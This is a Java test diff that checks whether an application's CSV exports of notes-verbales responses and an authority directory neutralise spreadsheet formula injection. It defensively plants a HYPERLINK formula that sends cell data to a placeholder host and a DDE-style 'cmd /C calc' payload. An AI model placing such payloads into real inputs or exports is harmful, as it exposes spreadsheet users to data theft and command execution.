@@ -8,11 +8,14 @@ import org.springframework.http.MediaType;
 import org.springframework.test.web.reactive.server.EntityExchangeResult;
 import org.springframework.test.web.reactive.server.WebTestClient;
 
+import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
 import java.util.Random;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
 
 /**
  * Bad input at scale: a generated corpus of malformed and hostile bodies, content types, query parameters and
@@ -115,6 +118,35 @@ abstract class HostileInputContract {
             }
         }
         assertThat(failures).isEmpty();
+    }
+
+    @Test
+    void aFormulaInAnAnswerOrANameIsExportedAsTextNotAsALiveFormula() {
+        String formula = "=HYPERLINK(\"http://x.invalid/?\"&A2,\"open\")";
+        String note = (String) post("/api/notes-verbales", Map.of("reference", "CU 2031/1", "subject", "Exports",
+                "addressees", List.of("AUT"), "questions", List.of(Map.of("id", "q1", "text", "Anything?"))))
+                .expectStatus().isCreated().expectBody(Map.class).returnResult().getResponseBody().get("id");
+        post("/api/notes-verbales/" + note + "/issuance", Map.of("date", "2024-01-10")).expectStatus().isOk();
+        post("/api/notes-verbales/" + note + "/responses", Map.of("stateCode", "AUT", "receivedOn", "2024-01-20",
+                "substantive", true, "answers", Map.of("q1", formula))).expectStatus().isCreated();
+        post("/api/directory/authorities", Map.of("stateCode", "AUT", "type", "PREVENTION", "name", "@SUM(1+1)*cmd|' /C calc'!A0",
+                "effective", "2031-01-01")).expectStatus().isCreated();
+        await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> {
+            assertThat(csv("/api/notes-verbales/" + note + "/responses/export"))
+                    .contains("\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A2,\"\"open\"\")\"").doesNotContain(",=HYPERLINK");
+            assertThat(csv("/api/directory/authorities/export?asAt=2031-01-02&stateCode=AUT"))
+                    .contains("'@SUM(1+1)*cmd|' /C calc'!A0").doesNotContain(",@SUM");
+        });
+    }
+
+    private WebTestClient.ResponseSpec post(String uri, Object body) {
+        return gateway.post().uri(uri).headers(h -> h.setBearerAuth(secretariat)).contentType(MediaType.APPLICATION_JSON)
+                .bodyValue(body).exchange();
+    }
+
+    private String csv(String uri) {
+        return gateway.get().uri(uri).headers(h -> h.setBearerAuth(secretariat)).exchange().expectStatus().isOk()
+                .expectBody(String.class).returnResult().getResponseBody();
     }
 
     private static void check(EntityExchangeResult<String> result, String what, List<String> failures) {
